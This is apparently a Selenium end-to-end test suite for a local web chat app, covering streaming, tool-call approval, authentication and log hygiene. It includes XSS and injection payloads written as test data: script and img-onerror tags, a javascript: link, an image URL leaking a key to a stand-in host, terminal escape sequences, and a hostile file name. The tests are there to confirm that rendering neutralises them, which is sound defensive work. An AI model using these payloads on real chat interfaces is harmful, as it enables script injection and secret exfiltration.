"""The web chat in a real headless Chromium, driven as a person would: the installed
``chatbot serve`` on loopback, the link it prints, the message box, the buttons.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.ui import Select

from chatbot.settings.personas import load_personas
from tests.support.browser import Browser, ServedChat, serve_chat, wait_for
from tests.support.fakeserver import FakeOpenAIServer, FakeToolCall, Reply
from tests.support.helpers import chatbot_executable, scrubbed_environment
from tests.support.toolkit import MCP_SERVER

STOP = 'button[aria-label="Stop"]'
BOX = 'textarea[aria-label="Message"]'
SHELL_PERSONA = """
[personas.shell-helper]
description = "Runs commands"
system = "You run shell commands for the user."
tools = ["shell"]
"""


@pytest.fixture(scope="module")
def served(fake: FakeOpenAIServer, home: Path) -> Iterator[ServedChat]:
    (home / "config" / "config.toml").write_text(
        f'[mcp_servers.calc]\ncommand = "{sys.executable}"\nargs = ["{MCP_SERVER}", "calc"]\n',
        encoding="utf-8",
    )
    personas = home / "shell-personas.toml"
    personas.write_text(SHELL_PERSONA, encoding="utf-8")
    with serve_chat(home, base_url=fake.base_url, args=["--personas", str(personas)]) as chat:
        yield chat


@pytest.fixture
def page(browser: Browser, served: ServedChat, fake: FakeOpenAIServer) -> Browser:
    """A new chat, signed in through the printed link."""
    fake.responder = None
    fake.default_reply = Reply()
    browser.driver.get(served.url)
    wait_for(lambda: browser.js("return document.querySelector('#persona option') !== null"))
    return browser


def box(page: Browser) -> WebElement:
    return page.driver.find_element(By.CSS_SELECTOR, BOX)


def send(page: Browser, text: str) -> None:
    field = box(page)
    field.click()
    field.send_keys(text)
    field.send_keys(Keys.ENTER)


def streaming(page: Browser) -> bool:
    return bool(page.driver.find_elements(By.CSS_SELECTOR, STOP))


def wait_idle(page: Browser, timeout: float = 20.0) -> None:
    wait_for(lambda: not streaming(page), timeout=timeout, what="the reply to end")


def roles(page: Browser) -> list[str]:
    return [
        e.get_attribute("data-role") or ""
        for e in page.driver.find_elements(By.CSS_SELECTOR, "#messages [data-role]")
    ]


def last(page: Browser, role: str) -> WebElement:
    found = page.driver.find_elements(By.CSS_SELECTOR, f'#messages [data-role="{role}"]')
    assert found, f"no {role} message"
    return found[-1]


def reply_text(page: Browser) -> str:
    node = last(page, "assistant")
    return " ".join(e.text for e in node.find_elements(By.CSS_SELECTOR, ".reply")).strip()


def test_send_streams_markdown_with_a_copy_button_per_code_block(
    page: Browser, fake: FakeOpenAIServer
) -> None:
    text = "# Plan\n\nFirst **bold** words.\n\n```python\nprint('hi')\n```\n\nDone."
    fake.enqueue(Reply(text=text, chunk_chars=4, delay=0.03))
    send(page, "make a plan")
    wait_for(lambda: streaming(page), what="the Stop button while streaming")
    wait_idle(page)
    assert roles(page) == ["user", "assistant"]
    assert last(page, "user").find_element(By.CSS_SELECTOR, ".text").text == "make a plan"
    reply = last(page, "assistant")
    assert reply.find_element(By.CSS_SELECTOR, "h1").text == "Plan"
    assert reply.find_element(By.CSS_SELECTOR, "strong").text == "bold"
    code = reply.find_element(By.CSS_SELECTOR, "pre code")
    assert "print" in code.text
    assert code.find_elements(By.CSS_SELECTOR, "span.nb, span.nf, span.s1")  # highlighted
    assert reply.find_elements(By.CSS_SELECTOR, "pre button.copy")
    assert fake.chat_requests[-1].body["messages"][-1]["content"] == "make a plan"
    assert "context" in page.driver.find_element(By.ID, "status").text


def test_shift_enter_is_a_new_line_and_enter_sends(page: Browser, fake: FakeOpenAIServer) -> None:
    field = box(page)
    field.send_keys("line one")
    field.send_keys(Keys.SHIFT, Keys.ENTER)
    field.send_keys("line two")
    assert not page.driver.find_elements(By.CSS_SELECTOR, '[data-role="user"]')
    field.send_keys(Keys.ENTER)
    wait_idle(page)
    assert fake.chat_requests[-1].body["messages"][-1]["content"] == "line one\nline two"


def test_enter_while_an_input_method_is_composing_does_not_send(
    page: Browser, fake: FakeOpenAIServer
) -> None:
    before = len(fake.chat_requests)
    box(page).click()
    driver = page.driver
    # A Japanese input method converting "にほん": Enter picks the conversion.
    driver.execute_cdp_cmd(
        "Input.imeSetComposition", {"text": "にほん", "selectionStart": 3, "selectionEnd": 3}
    )
    page.js(
        """const box = document.querySelector('textarea[aria-label="Message"]');
        window.__composing = [];
        box.addEventListener('keydown', (e) => window.__composing.push(e.isComposing));"""
    )
    driver.execute_cdp_cmd(
        "Input.dispatchKeyEvent",
        {"type": "rawKeyDown", "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 229},
    )
    driver.execute_cdp_cmd("Input.insertText", {"text": "日本"})
    time.sleep(0.3)
    assert page.js("return window.__composing") == [True]
    assert len(fake.chat_requests) == before
    assert not page.driver.find_elements(By.CSS_SELECTOR, '[data-role="user"]')
    assert box(page).get_attribute("value") == "日本"
    box(page).send_keys(Keys.ENTER)
    wait_idle(page)
    assert fake.chat_requests[-1].body["messages"][-1]["content"] == "日本"


def test_stop_ends_the_reply_and_the_request_to_the_model(
    page: Browser, fake: FakeOpenAIServer
) -> None:
    fake.enqueue(Reply(text="word " * 400, chunk_chars=5, delay=0.03))
    abandoned = fake.abandoned_streams
    send(page, "talk a lot")
    wait_for(lambda: "word" in reply_text(page), what="the first words")
    page.driver.find_element(By.CSS_SELECTOR, STOP).click()
    wait_idle(page)
    wait_for(lambda: fake.abandoned_streams > abandoned, what="the model's stream to be closed")
    kept = reply_text(page)
    assert 0 < kept.count("word") < 400
    assert "interrupted" in last(page, "assistant").text
    # The chat goes on: the next message is answered.
    send(page, "still there?")
    wait_idle(page)
    assert reply_text(page) == "You said: still there?"


def test_stop_while_the_model_thinks(page: Browser, fake: FakeOpenAIServer) -> None:
    fake.enqueue(Reply(text="never shown", reasoning="hmm " * 300, chunk_chars=4, delay=0.03))
    abandoned = fake.abandoned_streams
    send(page, "think hard")
    wait_for(
        lambda: "hmm" in page.js("return document.querySelector('.thought')?.textContent || ''"),
        what="the thinking to show",
    )
    page.driver.find_element(By.CSS_SELECTOR, STOP).click()
    wait_idle(page)
    wait_for(lambda: fake.abandoned_streams > abandoned, what="the model's stream to be closed")
    assert "never shown" not in last(page, "assistant").text


def test_a_reasoning_reply_shows_its_thinking_live_then_folded(
    page: Browser, fake: FakeOpenAIServer
) -> None:
    fake.enqueue(Reply(text="The answer is 4.", reasoning="2 plus 2 is 4. ", delay=0.02))
    send(page, "2+2?")
    wait_idle(page)
    details = last(page, "assistant").find_element(By.CSS_SELECTOR, "details.thinking")
    assert details.get_attribute("open") is None  # folded once the answer came
    assert "2 plus 2" in page.js("return arguments[0].textContent", details)
    assert reply_text(page) == "The answer is 4."


def test_regenerate_replaces_the_last_reply(page: Browser, fake: FakeOpenAIServer) -> None:
    fake.enqueue(Reply(text="first try"), Reply(text="second try"))
    send(page, "a question")
    wait_idle(page)
    assert reply_text(page) == "first try"
    page.driver.find_element(By.CSS_SELECTOR, "button.regenerate").click()
    wait_for(lambda: reply_text(page) == "second try", what="the new reply")
    wait_idle(page)
    assert roles(page) == ["user", "assistant"]
    sent = fake.chat_requests[-1].body["messages"]
    assert [m["role"] for m in sent[1:]] == ["user"]  # the old reply is not sent back


def test_edit_the_last_message_and_answer_it_again(page: Browser, fake: FakeOpenAIServer) -> None:
    send(page, "helo")
    wait_idle(page)
    page.driver.find_element(By.CSS_SELECTOR, "button.edit-last").click()
    edit = page.driver.find_element(By.CSS_SELECTOR, "textarea.edit-box")
    edit.clear()
    edit.send_keys("hello")
    page.driver.find_element(By.CSS_SELECTOR, ".edit-bar button").click()
    wait_for(lambda: reply_text(page) == "You said: hello", what="the edited answer")
    wait_idle(page)
    assert roles(page) == ["user", "assistant"]
    assert [m["content"] for m in fake.chat_requests[-1].body["messages"][1:]] == ["hello"]


def test_switching_persona_changes_the_system_prompt(page: Browser, fake: FakeOpenAIServer) -> None:
    Select(page.driver.find_element(By.ID, "persona")).select_by_value("it-support")
    wait_for(lambda: "it-support" in page.js("return document.getElementById('persona').value"))
    send(page, "my printer")
    wait_idle(page)
    system = fake.chat_requests[-1].body["messages"][0]
    assert system == {"role": "system", "content": load_personas().get("it-support").system}


def test_the_model_picker_sets_the_model_asked_for(page: Browser, fake: FakeOpenAIServer) -> None:
    picker = Select(page.driver.find_element(By.ID, "model"))
    assert {o.text for o in picker.options} >= {"fake-model", "gpt-4o-mini"}
    picker.select_by_value("fake-model")
    wait_for(lambda: page.js("return document.getElementById('model').value") == "fake-model")
    send(page, "which model?")
    wait_idle(page)
    assert fake.chat_requests[-1].body["model"] == "fake-model"


def test_a_cut_reply_says_so_and_continue_asks_for_the_rest(
    page: Browser, fake: FakeOpenAIServer
) -> None:
    fake.enqueue(Reply(text="The first half", finish_reason=None), Reply(text="and the rest."))
    send(page, "tell me")
    wait_idle(page)
    outcome = last(page, "assistant").find_element(By.CSS_SELECTOR, ".outcome")
    assert "the reply was cut" in outcome.text
    outcome.find_element(By.CSS_SELECTOR, "button.action-continue").click()
    wait_for(lambda: reply_text(page) == "and the rest.", what="the rest of the reply")
    wait_idle(page)
    sent = fake.chat_requests[-1].body["messages"]
    assert sent[-2] == {"role": "assistant", "content": "The first half"}
    assert sent[-1]["content"].startswith("Continue exactly where")


def test_attach_a_text_file_and_refuse_a_binary_one(
    page: Browser, fake: FakeOpenAIServer, tmp_path: Path
) -> None:
    notes = tmp_path / "<img src=x onerror=alert(1)>.txt"
    notes.write_text("the secret number is 42\n", encoding="utf-8")
    binary = tmp_path / "blob.bin"
    binary.write_bytes(b"\x00\x01\x02binary")
    chooser = page.driver.find_element(By.ID, "file")
    chooser.send_keys(str(notes))
    wait_for(lambda: page.driver.find_elements(By.CSS_SELECTOR, "#attachments .chip"))
    chip = page.driver.find_element(By.CSS_SELECTOR, "#attachments .chip").text
    assert "<img src=x onerror=alert(1)>.txt" in chip and "tokens" in chip
    chooser.send_keys(str(binary))
    wait_for(lambda: "not a text file" in page.driver.find_element(By.ID, "notices").text)
    send(page, "what number?")
    wait_idle(page)
    content = fake.chat_requests[-1].body["messages"][-1]["content"]
    assert "the secret number is 42" in content and content.endswith("what number?")
    assert not page.driver.find_elements(By.CSS_SELECTOR, "#attachments .chip")
    assert not page.driver.find_elements(By.CSS_SELECTOR, "#messages img")


def test_tool_calls_wait_for_run_deny_or_always(page: Browser, fake: FakeOpenAIServer) -> None:
    add = FakeToolCall("calc__add", '{"a": 20, "b": 22}')
    fake.enqueue(
        Reply(text="", tool_calls=[add]),
        Reply(text="It is 42."),
        Reply(text="", tool_calls=[FakeToolCall("calc__add", '{"a": 1, "b": 2}')]),
        Reply(text="Declined, fine."),
        Reply(text="", tool_calls=[add]),
        Reply(text="Always it is."),
        Reply(text="", tool_calls=[add]),
        Reply(text="Again 42."),
    )
    send(page, "20 + 22?")
    card = wait_for(lambda: page.driver.find_element(By.CSS_SELECTOR, ".ask"), timeout=40)
    assert "calc__add" in card.text and '"a": 20' in card.text
    card.find_element(By.CSS_SELECTOR, "button.verdict-run").click()
    wait_idle(page)
    assert reply_text(page) == "It is 42."
    answered = fake.chat_requests[-1].body["messages"][-1]
    assert answered["role"] == "tool" and answered["content"] == "42"
    send(page, "1 + 2?")
    wait_for(lambda: page.driver.find_element(By.CSS_SELECTOR, ".ask button.verdict-deny")).click()
    wait_idle(page)
    assert "declined" in fake.chat_requests[-1].body["messages"][-1]["content"]
    send(page, "again, always")
    wait_for(
        lambda: page.driver.find_element(By.CSS_SELECTOR, ".ask button.verdict-always")
    ).click()
    wait_idle(page)
    send(page, "once more")
    wait_idle(page)  # "always" this tool: no question this time
    assert reply_text(page) == "Again 42."


def test_the_shell_tool_is_always_asked_and_never_offered_always(
    page: Browser, fake: FakeOpenAIServer, served: ServedChat
) -> None:
    Select(page.driver.find_element(By.ID, "persona")).select_by_value("shell-helper")
    wait_for(lambda: page.js("return document.getElementById('persona').value") == "shell-helper")
    fake.enqueue(
        Reply(text="", tool_calls=[FakeToolCall("shell", '{"command": "echo from-the-shell"}')]),
        Reply(text="Ran it."),
    )
    send(page, "run echo")
    card = wait_for(lambda: page.driver.find_element(By.CSS_SELECTOR, ".ask"), timeout=20)
    assert "echo from-the-shell" in card.text
    assert not card.find_elements(By.CSS_SELECTOR, "button.verdict-always")
    card.find_element(By.CSS_SELECTOR, "button.verdict-run").click()
    wait_idle(page)
    assert "from-the-shell" in fake.chat_requests[-1].body["messages"][-1]["content"]


HOSTILE = (
    "<script>window.__pwned = 1</script>\n\n"
    '<img src="http://203.0.113.9/x.png" onerror="window.__pwned = 2">\n\n'
    "[click me](javascript:window.__pwned=3) and [rel](/api/logout)\n\n"
    "![leak](http://203.0.113.9/leak.png?secret=sk-test)\n\n"
    '<iframe src="http://203.0.113.9/"></iframe> <style>body{display:none}</style>\n\n'
    "escape \x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]8;;http://203.0.113.9/\x07link\x1b]8;;\x07 end"
)


def test_hostile_replies_stay_text_load_nothing_and_break_no_policy(
    page: Browser, fake: FakeOpenAIServer, served: ServedChat
) -> None:
    page.requests()  # drain what the page loaded so far
    fake.enqueue(Reply(text=HOSTILE, chunk_chars=7))
    send(page, "be hostile")
    wait_idle(page)
    reply = last(page, "assistant")
    shown = reply.text
    assert "<script>window.__pwned = 1</script>" in shown
    assert '<img src="http://203.0.113.9/x.png"' in shown
    assert "escape" in shown and "link end" in shown and "\x1b" not in shown
    assert page.js("return window.__pwned === undefined")
    assert not reply.find_elements(By.CSS_SELECTOR, "img, script, iframe, style")
    hrefs = [a.get_attribute("href") or "" for a in reply.find_elements(By.CSS_SELECTOR, "a")]
    assert not any(h.startswith("javascript") or h.startswith(served.origin) for h in hrefs)
    page.driver.refresh()  # and again when the stored conversation is drawn whole
    wait_for(lambda: page.driver.find_elements(By.CSS_SELECTOR, '[data-role="assistant"]'))
    assert page.js("return window.__pwned === undefined")
    off_origin = [
        url
        for url in page.requests()
        if not url.startswith((served.origin, "data:", "blob:", "chrome:"))
    ]
    assert off_origin == []
    assert page.csp_violations() == []


def test_conversations_list_search_rename_export_delete_and_the_terminal(
    page: Browser, fake: FakeOpenAIServer, served: ServedChat
) -> None:
    env = scrubbed_environment(served.home)
    env.update(OPENAI_BASE_URL=fake.base_url, OPENAI_API_KEY="sk-test-SECRETKEY-0123456789")
    subprocess.run(
        [chatbot_executable(), "zebra crossing from the terminal"],
        env=env,
        check=True,
        capture_output=True,
        timeout=60,
    )
    page.driver.refresh()
    item = wait_for(
        lambda: next(
            e
            for e in page.driver.find_elements(By.CSS_SELECTOR, "#conversation-list li")
            if "zebra crossing" in e.text
        ),
        what="the terminal's conversation in the list",
    )
    item.find_element(By.CSS_SELECTOR, "button.open").click()
    wait_for(lambda: "zebra crossing" in last(page, "user").text)
    send(page, "and from the browser")
    wait_idle(page)
    sent = [m["content"] for m in fake.chat_requests[-1].body["messages"][1:]]
    assert sent == [
        "zebra crossing from the terminal",
        "You said: zebra crossing from the terminal",
        "and from the browser",
    ]
    conversation_id = page.js("return location.hash.slice(2)")
    listed = subprocess.run(
        [chatbot_executable(), "sessions"], env=env, capture_output=True, text=True, timeout=60
    ).stdout
    assert "zebra crossing" in listed
    # Search finds it by a word of the browser's message.
    page.driver.find_element(By.ID, "search").send_keys("browser")
    wait_for(lambda: len(page.driver.find_elements(By.CSS_SELECTOR, "#conversation-list li")) == 1)
    row = page.driver.find_element(By.CSS_SELECTOR, "#conversation-list li")
    row.find_element(By.CSS_SELECTOR, "button.rename").click()
    alert = page.driver.switch_to.alert
    alert.send_keys("Zebra talk")
    alert.accept()
    wait_for(lambda: "Zebra talk" in page.driver.find_element(By.ID, "conversation-list").text)
    status, body = page.fetch(f"/api/conversations/{conversation_id}/export?format=json")
    assert status == 200 and json.loads(body)["title"] == "Zebra talk"
    status, body = page.fetch(f"/api/conversations/{conversation_id}/export?format=md")
    assert status == 200 and "and from the browser" in body
    row = page.driver.find_element(By.CSS_SELECTOR, "#conversation-list li")
    row.find_element(By.CSS_SELECTOR, "button.delete").click()
    page.driver.switch_to.alert.accept()
    wait_for(lambda: "Zebra talk" not in page.driver.find_element(By.ID, "conversation-list").text)
    assert page.fetch(f"/api/conversations/{conversation_id}")[0] == 404


def test_without_the_token_every_endpoint_is_401(
    page: Browser, served: ServedChat, fake: FakeOpenAIServer
) -> None:
    requests_before = len(fake.chat_requests)
    driver = page.driver
    driver.delete_all_cookies()
    driver.get(served.origin + "/")
    assert "Open the link" in driver.find_element(By.TAG_NAME, "body").text
    for path, method in (("/api/state", "GET"), ("/api/conversations", "GET")):
        assert page.fetch(path, method=method)[0] == 401
    status, _ = page.fetch("/api/turns", method="POST", body={"chat": "1", "text": "hi"})
    assert status == 401
    driver.get(served.origin + "/?token=wrong-token")
    assert "Open the link" in driver.find_element(By.TAG_NAME, "body").text
    assert len(fake.chat_requests) == requests_before
    assert page.fetch("/healthz")[0] == 200
    driver.get(served.url)  # the printed link signs in again, and leaves the address bar
    wait_for(lambda: driver.current_url == served.origin + "/")
    cookie = driver.get_cookie("chatbot_session")
    assert cookie is not None and cookie["httpOnly"] and cookie["sameSite"] == "Strict"


def test_a_link_cannot_start_a_turn(
    page: Browser, served: ServedChat, fake: FakeOpenAIServer
) -> None:
    before = len(fake.chat_requests)
    page.driver.get(served.origin + "/?q=delete+everything&prompt=hi#c1")
    time.sleep(1)
    assert len(fake.chat_requests) == before


def test_a_phone_width_window_fits_and_chats(page: Browser, fake: FakeOpenAIServer) -> None:
    driver = page.driver
    driver.set_window_size(390, 844)
    try:
        driver.refresh()
        wait_for(lambda: page.js("return document.querySelector('#persona option') !== null"))
        assert page.js("return document.documentElement.scrollWidth <= window.innerWidth")
        assert box(page).is_displayed() and box(page).rect["width"] < 390
        assert page.js(
            "return document.getElementById('sidebar').getBoundingClientRect().right <= 0"
        )
        driver.find_element(By.ID, "menu").click()
        wait_for(
            lambda: page.js(
                "return document.getElementById('sidebar').getBoundingClientRect().left >= 0"
            )
        )
        driver.find_element(By.ID, "new-chat").click()
        send(page, "from a phone")
        wait_idle(page)
        assert reply_text(page) == "You said: from a phone"
        assert page.js("return document.documentElement.scrollWidth <= window.innerWidth")
    finally:
        driver.set_window_size(1200, 900)


def test_the_access_log_has_no_text_and_no_secrets(served: ServedChat) -> None:
    log = (served.data_dir / "web-access.log").read_text(encoding="utf-8")
    assert "POST /api/turns 200" in log and " local " in log
    token = served.url.split("token=")[1]
    for secret in (token, "sk-test-SECRETKEY", "zebra", "be hostile", "?"):
        assert secret not in log


def test_a_message_sent_before_the_page_has_loaded_its_chat_is_answered(
    browser: Browser, served: ServedChat, fake: FakeOpenAIServer
) -> None:
    # A slow network: the page's first state request is still on its way when the
    # user, quick on the keys, sends; the message must wait for it, not fail.
    fake.responder = None
    fake.enqueue(Reply(text="answered after all"))
    driver = browser.driver
    driver.execute_cdp_cmd("Network.enable", {})
    slow = {"offline": False, "latency": 700, "downloadThroughput": -1, "uploadThroughput": -1}
    driver.execute_cdp_cmd("Network.emulateNetworkConditions", slow)
    try:
        driver.get(served.url)
        assert browser.js("return document.querySelector('#persona option') === null")
        field = wait_for(lambda: driver.find_element(By.CSS_SELECTOR, BOX))
        field.send_keys("quick question", Keys.ENTER)
        wait_for(lambda: "answered after all" in reply_text(browser), timeout=20)
    finally:
        fast = {**slow, "latency": 0}
        driver.execute_cdp_cmd("Network.emulateNetworkConditions", fast)
    assert fake.chat_requests[-1].body["messages"][-1]["content"] == "quick question"
    assert not driver.find_elements(By.CSS_SELECTOR, "#notices .error")


def test_a_message_refused_for_a_full_server_goes_back_into_the_box(
    browser: Browser, fake: FakeOpenAIServer, tmp_path: Path
) -> None:
    for folder in ("config", "data"):
        (tmp_path / folder).mkdir()
    fake.responder = None
    fake.default_reply = Reply()
    fake.enqueue(Reply(text="word " * 400, chunk_chars=5, delay=0.03))
    driver = browser.driver

    def ready() -> bool:
        return bool(browser.js("return document.querySelector('#persona option') !== null"))

    with serve_chat(tmp_path, base_url=fake.base_url, env={"CHATBOT_WEB_MAX_TURNS": "1"}) as full:
        driver.get(full.url)
        first_tab = driver.current_window_handle
        wait_for(ready)
        send(browser, "talk a lot")
        wait_for(lambda: "word" in reply_text(browser), what="the first reply streaming")
        driver.switch_to.new_window("tab")
        try:
            driver.get(full.url)
            wait_for(ready)
            send(browser, "my second question")
            alert = wait_for(
                lambda: driver.find_elements(By.CSS_SELECTOR, "#messages .error"),
                what="the refusal",
            )[0]
            assert "as many messages as it can" in alert.text
            # Never sent, so not shown as sent: it is back in the box, to send again.
            assert not driver.find_elements(By.CSS_SELECTOR, '#messages [data-role="user"]')
            assert box(browser).get_attribute("value") == "my second question"
            driver.switch_to.window(first_tab)
            driver.find_element(By.CSS_SELECTOR, STOP).click()
            wait_idle(browser)
            driver.switch_to.window(driver.window_handles[-1])
            box(browser).send_keys(Keys.ENTER)
            wait_idle(browser)
            assert reply_text(browser) == "You said: my second question"
            assert roles(browser) == ["user", "assistant"]
            # Sent again and answered: the refusal's line is gone with the attempt.
            assert not driver.find_elements(By.CSS_SELECTOR, "#messages .error")
            # A regenerate refused the same way changes nothing: the reply stays.
            second_tab = driver.current_window_handle
            driver.switch_to.window(first_tab)
            fake.enqueue(Reply(text="more " * 400, chunk_chars=5, delay=0.03))
            send(browser, "talk again")
            wait_for(lambda: "more" in reply_text(browser), what="another long reply")
            driver.switch_to.window(second_tab)
            driver.find_element(By.CSS_SELECTOR, "button.regenerate").click()
            wait_for(
                lambda: (
                    driver.find_elements(By.CSS_SELECTOR, "#messages .error")
                    and reply_text(browser) == "You said: my second question"
                ),
                what="the refusal of the regenerate, and the reply it kept",
            )
            assert (
                "as many messages as it can"
                in last(browser, "assistant")
                .find_element(By.XPATH, "following::div[contains(@class, 'error')]")
                .text
            )
            assert roles(browser) == ["user", "assistant"]
            driver.switch_to.window(first_tab)
            driver.find_element(By.CSS_SELECTOR, STOP).click()
            wait_idle(browser)
            driver.switch_to.window(second_tab)
        finally:
            driver.close()
            driver.switch_to.window(first_tab)
